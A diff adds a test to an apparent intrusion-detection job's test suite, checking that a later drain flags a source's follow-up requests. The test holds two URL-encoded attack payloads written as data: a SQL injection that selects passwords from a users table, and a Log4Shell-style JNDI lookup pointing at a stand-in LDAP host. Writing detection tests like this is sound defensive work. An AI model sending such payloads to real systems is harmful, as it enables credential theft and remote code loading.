@@ -74,6 +74,17 @@ test("an attack in a query string is flagged by the drain that stores it, and th
   expect((await listRuns(db, { trigger: "drain" }))[0]).toMatchObject({ flagged: 1, actor: "drain-events" });
 });
 
+test("what somebody does right after he was found is examined by a later drain, without new requests", async () => {
+  const drain = () => findJob("drain-events")?.run({ warn: () => {} });
+  await send("203.0.113.8", "q=1%27%20union%20select%20password%20from%20users--");
+  expect(await drain()).toMatchObject({ inserted: 1, flagged: 1 });
+  await send("203.0.113.8", "x=$%7Bjndi:ldap://192.0.2.1/a%7D");
+  expect(await drain()).toMatchObject({ inserted: 1, flagged: 0 });
+  await expect.poll(async () => (await drain())?.flagged, { timeout: 10_000, interval: 300 }).toBe(1);
+  const found = (await listSuspicious(db, { search: "203.0.113.8" }, HASH)).rows[0];
+  expect(found?.reasons).toEqual(expect.arrayContaining(["injection", "known-exploit"]));
+});
+
 test("a drain with nothing new detects nothing", async () => {
   const before = (await listRuns(db)).length;
   expect(await findJob("drain-events")?.run({ warn: () => {} })).toMatchObject({ events: 0, flagged: 0 });
